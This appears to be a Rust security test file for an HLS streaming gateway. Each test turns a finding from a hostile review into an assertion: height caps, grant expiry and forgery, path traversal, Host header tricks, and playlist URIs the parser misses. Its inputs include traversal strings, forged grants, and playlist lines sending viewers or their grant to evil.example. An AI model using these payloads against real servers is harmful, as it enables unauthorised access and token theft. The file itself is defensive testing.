//! HLS as a hostile client and a hostile uploader see it.
//!
//! Each test is an attack from a hostile review of HLS streaming (F1…F11 name its findings, each
//! fixed; the rest held), on the embedded store and on Garage.
//!
//! F1 an `EXT-X-MEDIA:TYPE=VIDEO` rendition escaped the height cap; F2 so did any playlist the
//! master does not list; F3 so did any entitlement `hls.max_height` does not name; F4 a grant
//! outlived its token and `expires_in`; F5 leaving out variants was quadratic (now a mark per
//! piece); F6 the rewritten playlist was unbounded (now at most `MAX_REFERENCES` URIs); F7
//! `bad_playlist` echoed whole URIs; F8 URIs players see and the parser did not (duplicate
//! `URI`, CR/U+2028, steering, interstitials, image streams); F9 windowed VOD URLs expired before
//! playback ended; F10 playlist paths were decoded twice; F11 an uploaded `.m3u8` was served raw.

use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::helpers::{
    RawResponse, TestApp, assert_error, grant_of, hls_objects, spawn_app, spawn_app_with,
};

// ---------------------------------------------------------------------------------------------
// Helpers (the ones in hls.rs are private to it).

fn media(segments: &[&str]) -> String {
    let mut text = String::from("#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:4\n");
    for segment in segments {
        text.push_str(&format!("#EXTINF:4.000,\n{segment}\n"));
    }
    text.push_str("#EXT-X-ENDLIST\n");
    text
}

/// `GET {target}` sent byte for byte (no URL normalisation), with `host`.
async fn raw_get(app: &TestApp, target: &str, host: &str) -> RawResponse {
    let mut connection = app.connect_raw().await;
    let request = format!("GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
    connection.send(request.as_bytes()).await;
    tokio::time::timeout(
        std::time::Duration::from_secs(30),
        connection.read_response(),
    )
    .await
    .expect("an answer")
    .expect("a response")
}

/// The store's absolute URL of video `id`'s folder.
fn store_folder(app: &TestApp, id: &str) -> String {
    format!(
        "{}/{}/{}/",
        app.store_endpoint,
        app.settings.storage.bucket,
        app.key(id)
    )
}

/// Seconds since the epoch of an `X-Amz-Date` (`20261130T184310Z`).
fn amz_date_secs(date: &str) -> i64 {
    let n = |r: std::ops::Range<usize>| date[r].parse::<i64>().unwrap();
    let (y, m, d) = (n(0..4), n(4..6), n(6..8));
    // Days from civil (H. Hinnant).
    let y = if m <= 2 { y - 1 } else { y };
    let era = y.div_euclid(400);
    let yoe = y - era * 400;
    let doy = (153 * (if m > 2 { m - 3 } else { m + 9 }) + 2) / 5 + d - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    let days = era * 146_097 + doe - 719_468;
    days * 86_400 + n(9..11) * 3600 + n(11..13) * 60 + n(13..15)
}

fn query_value<'a>(url: &'a str, name: &str) -> &'a str {
    let query = url.split_once('?').unwrap().1;
    query
        .split('&')
        .find_map(|pair| pair.strip_prefix(&format!("{name}=")))
        .unwrap_or_else(|| panic!("{name} in {url}"))
}

// ---------------------------------------------------------------------------------------------
// Rendition cap (`hls.max_height`).

/// F1. A tall variant whose video comes from an `EXT-X-MEDIA:TYPE=VIDEO` group: the variant is
/// left out for a free caller, the group's rendition is not, and its playlist is served with the
/// free grant, 1080p segments signed.
#[tokio::test]
async fn a_video_rendition_of_a_dropped_variant_is_capped_too() {
    let app = spawn_app().await;
    let master = "#EXTM3U
#EXT-X-VERSION:7
#EXT-X-MEDIA:TYPE=VIDEO,GROUP-ID=\"hd\",NAME=\"angle 2\",DEFAULT=NO,URI=\"1080p/angle2.m3u8\"
#EXT-X-STREAM-INF:BANDWIDTH=800000,RESOLUTION=640x360
360p/index.m3u8
#EXT-X-STREAM-INF:BANDWIDTH=5000000,RESOLUTION=1920x1080,VIDEO=\"hd\"
1080p/index.m3u8
";
    let segment = media(&["seg-0.m4s"]);
    app.put_hls(
        "film",
        "free",
        &hls_objects(&[
            ("master.m3u8", master),
            ("360p/index.m3u8", &segment),
            ("1080p/index.m3u8", &segment),
            ("1080p/angle2.m3u8", &segment),
            ("1080p/seg-0.m4s", "1080p bytes"),
        ]),
    )
    .await;
    let url = app.hls_entry("film", &app.token("fred", &[], &[])).await;
    let (_, text) = app.get_text(&url).await;
    let (status, angle) = app
        .get_text(&app.url(&format!(
            "/videos/film/hls/1080p/angle2.m3u8?grant={}",
            grant_of(&url)
        )))
        .await;
    assert!(
        !text.contains("1080p/") && status == StatusCode::FORBIDDEN,
        "a free caller (max 720) is handed the 1080p rendition of the dropped variant:\n\
         master:\n{text}\n1080p/angle2.m3u8 → {status}:\n{angle}"
    );
}

/// F2. A playlist in the video's folder that the top playlist does not list as a variant (a
/// rendition being added, kept from an older packaging, or listed only in a nested playlist) is
/// served to any grant, whatever its height: the cap is a deny-list of the master's variants.
#[tokio::test]
async fn a_playlist_the_master_does_not_list_is_not_served_past_the_cap() {
    let app = spawn_app().await;
    let master = "#EXTM3U
#EXT-X-STREAM-INF:BANDWIDTH=800000,RESOLUTION=640x360
360p/index.m3u8
";
    let segment = media(&["seg-0.m4s"]);
    app.put_hls(
        "film",
        "free",
        &hls_objects(&[
            ("master.m3u8", master),
            ("360p/index.m3u8", &segment),
            ("2160p/index.m3u8", &segment),
        ]),
    )
    .await;
    let url = app.hls_entry("film", &app.token("fred", &[], &[])).await;
    let (status, text) = app
        .get_text(&app.url(&format!(
            "/videos/film/hls/2160p/index.m3u8?grant={}",
            grant_of(&url)
        )))
        .await;
    assert_ne!(
        status,
        StatusCode::OK,
        "an unlisted playlist is served to a capped grant:\n{text}"
    );
}

/// F3. `Policy::max_height`: any entitlement string that `hls.max_height` does not name lifts
/// the cap, also one that is no tier at all (`entitlement.tiers` = free, premium).
#[tokio::test]
async fn an_entitlement_that_is_no_tier_does_not_lift_the_cap() {
    let app = spawn_app().await;
    let master = "#EXTM3U
#EXT-X-STREAM-INF:BANDWIDTH=800000,RESOLUTION=640x360
360p/index.m3u8
#EXT-X-STREAM-INF:BANDWIDTH=5000000,RESOLUTION=1920x1080
1080p/index.m3u8
";
    app.put_hls("film", "free", &hls_objects(&[("master.m3u8", master)]))
        .await;
    // Without the extra claim: capped (the control).
    let capped = app
        .get_text(&app.hls_entry("film", &app.token("fred", &[], &[])).await)
        .await;
    assert!(!capped.1.contains("1080p"), "{}", capped.1);
    let token = app.token("fred", &["newsletter"], &[]);
    let (_, text) = app.get_text(&app.hls_entry("film", &token).await).await;
    assert!(
        !text.contains("1080p"),
        "an entitlement outside entitlement.tiers gives any height:\n{text}"
    );
}

// ---------------------------------------------------------------------------------------------
// Grants.

/// F4. The grant lives `hls.grant_ttl_secs` (4 h) whatever the token that obtained it: it is not
/// cut to the token's `exp` nor to `expires_in`, and it keeps opening playlists (fresh segment
/// URLs) after the token has expired. Revocation, once tollgate has it, will not reach grants.
#[tokio::test]
async fn a_grant_does_not_outlive_its_token() {
    let app = spawn_app().await;
    app.put_hls(
        "film",
        "free",
        &hls_objects(&[("index.m3u8", &media(&["seg-0.m4s"]))]),
    )
    .await;
    let mut claims = app.claims("fred");
    let now = crate::helpers::now_secs();
    claims.insert("exp".into(), json!(now + 120));
    let token = app.sign_hs256(&jsonwebtoken::Header::default(), &claims);
    let response = app
        .get("/videos/film/url?expires_in=60", Some(&token))
        .await;
    assert_eq!(response.status(), StatusCode::OK);
    let body: Value = response.json().await.unwrap();
    let url = body["url"].as_str().unwrap().to_owned();
    let lifetime = body["expires_in"].as_u64().unwrap();
    // Two hours later: the token is long expired…
    app.clock.set_offset_secs(2 * 3600);
    let (status, refused) = app.video_url("film", &token).await;
    assert_error(status, &refused, StatusCode::UNAUTHORIZED, "invalid_token");
    // …its grant is not.
    let (status, text) = app.get_text(&url).await;
    assert!(
        status == StatusCode::UNAUTHORIZED && lifetime <= 120,
        "asked expires_in=60 with a token valid 120 s: the grant lives {lifetime} s, and 2 h \
         later it still answers {status} with freshly signed segments:\n{text}"
    );
}

// ---------------------------------------------------------------------------------------------
// Resource use.

#[tokio::test]
async fn a_bad_playlist_message_echoes_no_signature_and_no_whole_line() {
    let app = spawn_app().await;
    let signed = format!(
        "#EXTM3U\n#EXTINF:4,\n{}seg.ts?X-Amz-Credential=GK1234&X-Amz-Signature=0123456789abcdef\n",
        store_folder(&app, "signed")
    );
    let long = format!(
        "#EXTM3U\n#EXTINF:4,\nhttps://evil.example/{}.ts\n",
        "A".repeat(256 * 1024)
    );
    app.put_hls("signed", "free", &hls_objects(&[("index.m3u8", &signed)]))
        .await;
    app.put_hls("long", "free", &hls_objects(&[("index.m3u8", &long)]))
        .await;
    let token = app.token("fred", &[], &[]);
    let mut leaks = Vec::new();
    for id in ["signed", "long"] {
        let (status, body) = app.get_text(&app.hls_entry(id, &token).await).await;
        assert_eq!(status, StatusCode::BAD_GATEWAY, "{body:.200}");
        let message = serde_json::from_str::<Value>(&body).unwrap()["error"]["message"]
            .as_str()
            .unwrap()
            .to_owned();
        if message.contains("X-Amz-Signature=0123") || message.len() > 1024 {
            leaks.push(format!("{id}: {} bytes: {message:.300}", message.len()));
        }
    }
    assert!(leaks.is_empty(), "{leaks:#?}");
}

// ---------------------------------------------------------------------------------------------
// What a player sees that the parser does not (a hostile uploader's playlist).

/// F8. "A URI that leaves videos/{id}/ (another host …) makes the playlist a 502": not for URIs
/// tollgate's parser does not see and players do. Each case is served 200 with
/// `https://evil.example/…` kept byte for byte:
/// - a second `URI` attribute (hls.js's attribute list keeps the last);
/// - a CR or U+2028 inside a tag line (hls.js's line regexes break there: the rest is a URI line);
/// - URI-bearing tags not in the parser's lists: `EXT-X-CONTENT-STEERING` (`SERVER-URI`),
///   `EXT-X-DATERANGE` interstitials (`X-ASSET-URI`, `X-ASSET-LIST`), `EXT-X-IMAGE-STREAM-INF`;
/// - `EXT-X-DEFINE:QUERYPARAM="grant"` is kept too: with variable substitution a player can
///   put the viewer's grant (subject inside) into such a URI.
#[tokio::test]
async fn uris_players_see_and_the_parser_does_not_are_refused_too() {
    let app = spawn_app().await;
    let variant = "#EXT-X-STREAM-INF:BANDWIDTH=1,RESOLUTION=640x360\n360p/index.m3u8\n";
    let cases: Vec<(&str, &str, String)> = vec![
        (
            "twouri",
            "index.m3u8",
            "#EXTM3U\n#EXT-X-MAP:URI=\"init.mp4\",URI=\"https://evil.example/init.mp4\"\n\
             #EXTINF:4,\ns.ts\n#EXT-X-ENDLIST\n"
                .to_owned(),
        ),
        (
            "cr",
            "index.m3u8",
            "#EXTM3U\n#EXTINF:4,\rhttps://evil.example/s.ts\n#EXTINF:4,\ns.ts\n#EXT-X-ENDLIST\n"
                .to_owned(),
        ),
        (
            "u2028",
            "index.m3u8",
            "#EXTM3U\n#EXTINF:4,\u{2028}https://evil.example/s.ts\n#EXTINF:4,\ns.ts\n#EXT-X-ENDLIST\n"
                .to_owned(),
        ),
        (
            "steering",
            "master.m3u8",
            format!(
                "#EXTM3U\n#EXT-X-DEFINE:QUERYPARAM=\"grant\"\n\
                 #EXT-X-CONTENT-STEERING:SERVER-URI=\"https://evil.example/steer?g={{$grant}}\"\n{variant}"
            ),
        ),
        (
            "interstitial",
            "index.m3u8",
            "#EXTM3U\n#EXT-X-PROGRAM-DATE-TIME:2026-01-01T00:00:00Z\n\
             #EXT-X-DATERANGE:ID=\"ad\",CLASS=\"com.apple.hls.interstitial\",\
             START-DATE=\"2026-01-01T00:00:00Z\",X-ASSET-URI=\"https://evil.example/ad.m3u8\"\n\
             #EXTINF:4,\ns.ts\n#EXT-X-ENDLIST\n"
                .to_owned(),
        ),
        (
            "images",
            "master.m3u8",
            format!(
                "#EXTM3U\n#EXT-X-IMAGE-STREAM-INF:BANDWIDTH=1,RESOLUTION=320x180,\
                 CODECS=\"jpeg\",URI=\"https://evil.example/thumbs.m3u8\"\n{variant}"
            ),
        ),
    ];
    let token = app.token("fred", &[], &[]);
    let mut served = Vec::new();
    for (id, top, text) in &cases {
        app.put_hls(id, "free", &hls_objects(&[(top, text)])).await;
        let (status, body) = app.get_text(&app.hls_entry(id, &token).await).await;
        if status == StatusCode::OK && body.contains("evil.example") {
            served.push(format!("{id}:\n{body}"));
        }
    }
    assert!(
        served.is_empty(),
        "served with a foreign URI:\n{}",
        served.join("\n")
    );
}

// ---------------------------------------------------------------------------------------------
// Lifetimes and windows.

/// F9. With `presign.time_window_secs = W` above `hls.expiry_margin_secs`, a VOD playlist's
/// segment URLs are signed at the window's start with duration + margin: fetched late in a
/// window they expire before the film ends (README: "so that playback never outlives them").
/// Config validation compares W with `get_max_expires_secs` only.
#[tokio::test]
async fn vod_segment_urls_signed_in_a_window_outlive_playback() {
    let app = spawn_app_with(|s| {
        s.presign.time_window_secs = 250;
        s.hls.expiry_margin_secs = 10;
    })
    .await;
    let names: Vec<String> = (0..100).map(|i| format!("s{i}.m4s")).collect();
    let names: Vec<&str> = names.iter().map(String::as_str).collect();
    // 100 × 4 s = 400 s of video.
    app.put_hls(
        "film",
        "free",
        &hls_objects(&[("index.m3u8", &media(&names))]),
    )
    .await;
    let now = crate::helpers::now_secs();
    // 240 s into a window.
    let offset = 240 - now.rem_euclid(250);
    app.clock.set_offset_secs(offset);
    let (_, text) = app
        .get_text(&app.hls_entry("film", &app.token("fred", &[], &[])).await)
        .await;
    let url = text.lines().find(|l| l.contains("/s0.m4s?")).unwrap();
    let expiry = amz_date_secs(query_value(url, "X-Amz-Date"))
        + query_value(url, "X-Amz-Expires").parse::<i64>().unwrap();
    let left = expiry - (crate::helpers::now_secs() + offset);
    assert!(
        left >= 400,
        "a 400 s film gets segment URLs that expire in {left} s"
    );
}

/// F10. The playlist path is percent-decoded twice (axum's `Path`, then `resolve`): a playlist
/// whose name holds a `%XX` is announced with a URL that tollgate resolves to another object
/// (`x%41.m3u8` → `xA.m3u8`). Not an escape (both sides normalise alike), but an alias.
#[tokio::test]
async fn a_playlist_path_is_decoded_once() {
    let app = spawn_app().await;
    let master = "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1,RESOLUTION=640x360\nx%2541.m3u8\n";
    app.put_hls(
        "film",
        "free",
        &hls_objects(&[
            ("master.m3u8", master),
            ("x%41.m3u8", &media(&["real.m4s"])),
            ("xA.m3u8", &media(&["alias.m4s"])),
        ]),
    )
    .await;
    let (_, text) = app
        .get_text(&app.hls_entry("film", &app.token("fred", &[], &[])).await)
        .await;
    let variant = text.lines().find(|l| l.contains("/hls/x")).unwrap();
    assert!(variant.contains("/hls/x%2541.m3u8?grant="), "{variant}");
    let (status, body) = app.get_text(variant).await;
    assert!(
        status == StatusCode::OK && body.contains("real.m4s"),
        "{variant} → {status}:\n{body}"
    );
}

/// F11. An uploaded playlist would be a file video (`videos/{upload id}`) served raw by the
/// store, with none of the HLS checks (foreign hosts, keys, interstitials): the playlist types
/// are not in the default `uploads.allowed_content_types`; HLS goes in with `put-hls`.
#[tokio::test]
async fn an_uploaded_playlist_is_refused_by_default() {
    let app = spawn_app().await;
    let uploader = app.token("mallory", &[], &["uploader"]);
    for content_type in ["application/vnd.apple.mpegurl", "application/x-mpegurl"] {
        let declaration = json!({
            "content_type": content_type,
            "size": 100,
            "filename": "trailer.m3u8",
            "access": "free",
        });
        let (status, body) = app.post_uploads(&uploader, &declaration).await;
        assert_error(
            status,
            &body,
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            "unsupported_media_type",
        );
    }
}

// ---------------------------------------------------------------------------------------------
// What held.

/// Request paths: traversal, encoded slashes and dots, double encoding, case, NFD, backslashes,
/// segments, other videos; the tall variant by any alias is still refused to a free grant.
#[tokio::test]
async fn request_paths_never_leave_the_video_nor_alias_a_refused_rendition() {
    let app = spawn_app().await;
    let master = "#EXTM3U
#EXT-X-STREAM-INF:BANDWIDTH=1,RESOLUTION=640x360
360p/index.m3u8
#EXT-X-STREAM-INF:BANDWIDTH=2,RESOLUTION=1920x1080
1080p/index.m3u8
";
    let segment = media(&["seg-0.m4s"]);
    let folder = hls_objects(&[
        ("master.m3u8", master),
        ("360p/index.m3u8", &segment),
        ("1080p/index.m3u8", &segment),
        ("caf\u{e9}/index.m3u8", &segment),
    ]);
    app.put_hls("film", "free", &folder).await;
    app.put_hls("other", "premium", &folder).await;
    let grant = grant_of(&app.hls_entry("film", &app.token("fred", &[], &[])).await);
    let mut wrong = Vec::new();
    for (path, expected) in [
        ("1080p/index.m3u8", 403),
        ("1080p%2Findex.m3u8", 403),
        // Decoded once: the literal name `1080p%2Findex.m3u8`, which the master does not list.
        ("1080p%252Findex.m3u8", 404),
        ("1080p/./index.m3u8", 403),
        ("360p/../1080p/index.m3u8", 403),
        ("360p/%2e%2e/1080p/index.m3u8", 403),
        ("./1080p/index.m3u8", 403),
        ("1080p/index.M3U8", 404),
        ("1080P/index.m3u8", 404),
        ("1080p%5Cindex.m3u8", 404),
        ("1080p/index.m3u8%00", 404),
        ("1080p/index.m3u8%20", 404),
        // Stored, but not listed by the master: never served.
        ("cafe%CC%81/index.m3u8", 404),
        ("caf%C3%A9/index.m3u8", 404),
        ("360p/seg-0.m4s", 404),
        ("..%2Fother%2Fmaster.m3u8", 404),
        ("%2e%2e/other/master.m3u8", 404),
        ("%252e%252e/other/master.m3u8", 404),
        ("..%c0%afother/master.m3u8", 400),
        ("%2Fvideos%2Fother%2Fmaster.m3u8", 404),
    ] {
        let response = raw_get(
            &app,
            &format!("/videos/film/hls/{path}?grant={grant}"),
            "tollgate",
        )
        .await;
        if response.status != expected {
            wrong.push(format!(
                "{path}: {} (expected {expected}) {:.200}",
                response.status, response.body
            ));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Grants: forged `h`/`e`, another video's, other lengths and encodings, duplicate keys in an
/// unsigned payload, Bearer and grant together.
#[tokio::test]
async fn grants_cannot_be_forged_widened_or_moved() {
    use base64::Engine;
    use base64::engine::general_purpose::URL_SAFE_NO_PAD;
    let app = spawn_app().await;
    let master = "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=2,RESOLUTION=1920x1080\n1080p/index.m3u8\n";
    let folder = hls_objects(&[("master.m3u8", master)]);
    app.put_hls("film", "free", &folder).await;
    app.put_hls("film2", "premium", &folder).await;
    let grant = grant_of(&app.hls_entry("film", &app.token("fred", &[], &[])).await);
    let (payload, tag) = grant.split_once('.').unwrap();
    let claims: Value = serde_json::from_slice(&URL_SAFE_NO_PAD.decode(payload).unwrap()).unwrap();
    assert_eq!(claims["h"], 720, "{claims}");
    let widened = |json: &str| format!("{}.{tag}", URL_SAFE_NO_PAD.encode(json));
    let e = claims["e"].as_u64().unwrap();
    for (bad, status) in [
        (
            widened(&format!(r#"{{"s":"fred","v":"film","e":{e}}}"#)),
            401,
        ),
        (
            widened(&format!(
                r#"{{"s":"fred","v":"film","h":720,"e":{e},"h":99999}}"#
            )),
            401,
        ),
        (
            widened(&format!(
                r#"{{"s":"fred","v":"film","h":720,"e":{}}}"#,
                u64::MAX
            )),
            401,
        ),
        (format!("{payload}.{tag}="), 401),
        (format!("{payload}=.{tag}"), 401),
        (format!("{}.{tag}", payload.to_lowercase()), 401),
        (format!("{payload}.{tag}.x"), 401),
        (format!("{payload}.{}", "A".repeat(5000)), 401),
    ] {
        let response = raw_get(
            &app,
            &format!("/videos/film/hls/master.m3u8?grant={bad}"),
            "tollgate",
        )
        .await;
        assert_eq!(response.status, status, "{bad:.80}: {}", response.body);
    }
    // film's grant on film2 (premium): 403 grant_mismatch, whatever the path.
    for path in ["master.m3u8", "1080p/index.m3u8"] {
        let response = raw_get(
            &app,
            &format!("/videos/film2/hls/{path}?grant={grant}"),
            "tollgate",
        )
        .await;
        assert_error(
            StatusCode::from_u16(response.status).unwrap(),
            &response.json(),
            StatusCode::FORBIDDEN,
            "grant_mismatch",
        );
    }
    // A premium Bearer token does not widen a free grant sent with it.
    let premium = app.token("paula", &["premium"], &[]);
    let response = app
        .get(
            &format!("/videos/film/hls/1080p/index.m3u8?grant={grant}"),
            Some(&premium),
        )
        .await;
    assert_eq!(response.status(), StatusCode::FORBIDDEN);
}

/// Cross-caller caching: masters (which carry grants) are never shared, and a shared media
/// playlist names no grant; escape tricks in playlist URIs are refused; odd `Host` headers do
/// not reach the playlist.
#[tokio::test]
async fn no_grant_crosses_callers_and_playlist_uris_stay_in_the_folder() {
    let app = spawn_app_with(|s| s.presign.time_window_secs = 60).await;
    let now = crate::helpers::now_secs();
    app.clock.set_offset_secs(1 - now.rem_euclid(60));
    let master = "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1,RESOLUTION=640x360\n360p/index.m3u8\n";
    app.put_hls(
        "film",
        "free",
        &hls_objects(&[
            ("master.m3u8", master),
            ("360p/index.m3u8", &media(&["seg-0.m4s"; 100])),
        ]),
    )
    .await;
    let fred = app.hls_entry("film", &app.token("fred", &[], &[])).await;
    let paula = app
        .hls_entry("film", &app.token("paula", &["premium"], &[]))
        .await;
    let (_, fred_master) = app.get_text(&fred).await;
    let (_, paula_master) = app.get_text(&paula).await;
    assert!(fred_master.contains(&grant_of(&fred)));
    assert!(paula_master.contains(&grant_of(&paula)) && !paula_master.contains(&grant_of(&fred)));
    let fred_media = fred_master.lines().find(|l| l.contains("360p")).unwrap();
    let paula_media = paula_master.lines().find(|l| l.contains("360p")).unwrap();
    let (_, a) = app.get_text(fred_media).await;
    let (_, b) = app.get_text(paula_media).await;
    assert_eq!(a, b, "one window, one shared media playlist");
    assert!(!a.contains("grant="), "{a:.300}");

    // URIs that try to leave the folder: 502, nothing signed.
    let store = store_folder(&app, "x");
    let upper = store.replacen("http://", "HTTP://", 1);
    let other_port = store.replacen("127.0.0.1:", "127.0.0.1:1", 1);
    let bucket = format!("/{}/", app.settings.storage.bucket);
    let other_bucket = store.replacen(&bucket, "/other/", 1);
    let sibling = store.replacen("/x/", "/x2/", 1);
    for (i, uri) in [
        "%2e%2e/y/s.ts".to_owned(),
        "..%2fy%2fs.ts".to_owned(),
        "%c0%ae%c0%ae/y/s.ts".to_owned(),
        "..\\y\\s.ts".to_owned(),
        format!("{store}../y/s.ts"),
        format!("{store}%2e%2e/y/s.ts"),
        upper.clone() + "s.ts",
        other_port + "s.ts",
        other_bucket + "s.ts",
        sibling + "s.ts",
        store.trim_end_matches('/').to_owned() + "%2Fs.ts",
        "//127.0.0.1:9000/videos/videos/y/s.ts".to_owned(),
        "s.ts;x=../../y".to_owned() + "/../../../y/s.ts",
        "s\u{1}x.ts".to_owned(),
    ]
    .iter()
    .enumerate()
    {
        let id = format!("x{i}");
        let text = format!(
            "#EXTM3U\n#EXTINF:4,\n{}\n#EXT-X-ENDLIST\n",
            uri.replace("/x/", &format!("/{id}/"))
        );
        app.put_hls(&id, "free", &hls_objects(&[("index.m3u8", &text)]))
            .await;
        let (status, body) = app
            .get_text(&app.hls_entry(&id, &app.token("fred", &[], &[])).await)
            .await;
        assert_eq!(status, StatusCode::BAD_GATEWAY, "{uri}: {body}");
        assert!(!body.contains("X-Amz-Signature"), "{uri}: {body}");
    }

    // Host: only [A-Za-z0-9.:\[\]-] reaches the playlist; anything else gives root-relative URLs.
    let target = format!("/videos/film/hls/master.m3u8?grant={}", grant_of(&fred));
    for host in [
        "a@evil.example",
        "evil.example/x",
        "evil.example?x",
        "evil.example#",
    ] {
        let response = raw_get(&app, &target, host).await;
        assert_eq!(response.status, 200, "{host}: {}", response.body);
        assert!(
            response
                .body
                .contains("\n/videos/film/hls/360p/index.m3u8?grant="),
            "{host}: {}",
            response.body
        );
    }
}

/// A double-encoded dot segment in a playlist is a literal key inside the folder: the store
/// (embedded, Garage) does not decode it again into another video's object.
#[tokio::test]
async fn a_double_encoded_dot_segment_stays_a_literal_key_on_the_store() {
    let app = spawn_app().await;
    app.put_hls(
        "victim",
        "premium",
        &hls_objects(&[("index.m3u8", &media(&["s.ts"])), ("s.ts", "victim bytes")]),
    )
    .await;
    let text = "#EXTM3U\n#EXTINF:4,\n%252e%252e/victim/s.ts\n#EXTINF:4,\n.%252e/victim/s.ts\n#EXT-X-ENDLIST\n";
    app.put_hls("x", "free", &hls_objects(&[("index.m3u8", text)]))
        .await;
    let (status, out) = app
        .get_text(&app.hls_entry("x", &app.token("fred", &[], &[])).await)
        .await;
    assert_eq!(status, StatusCode::OK, "{out}");
    for url in out.lines().filter(|l| l.starts_with("http")) {
        assert!(url.contains(&format!("/{}/", app.key("x"))), "{url}");
        let response = app.fetch(url).await;
        let status = response.status();
        let bytes = response.bytes().await.unwrap();
        assert!(
            status == StatusCode::NOT_FOUND && bytes.as_ref() != b"victim bytes",
            "{url} → {status}"
        );
    }
}

/// F6. A playlist of more URIs than `MAX_REFERENCES` is refused: each would become a signed URL
/// of a few hundred bytes on every request.
#[tokio::test]
async fn a_playlist_of_too_many_uris_is_refused() {
    let app = spawn_app().await;
    let mut text = String::from("#EXTM3U\n#EXT-X-TARGETDURATION:1\n");
    for _ in 0..=tollgate::hls::MAX_REFERENCES {
        text.push_str("#EXTINF:1,\ns.ts\n");
    }
    text.push_str("#EXT-X-ENDLIST\n");
    app.put_hls("long", "free", &hls_objects(&[("index.m3u8", &text)]))
        .await;
    let url = app.hls_entry("long", &app.token("fred", &[], &[])).await;
    let response = app.http.get(&url).send().await.unwrap();
    let status = response.status();
    let body: Value = response.json().await.unwrap();
    assert_error(status, &body, StatusCode::BAD_GATEWAY, "bad_playlist");
}
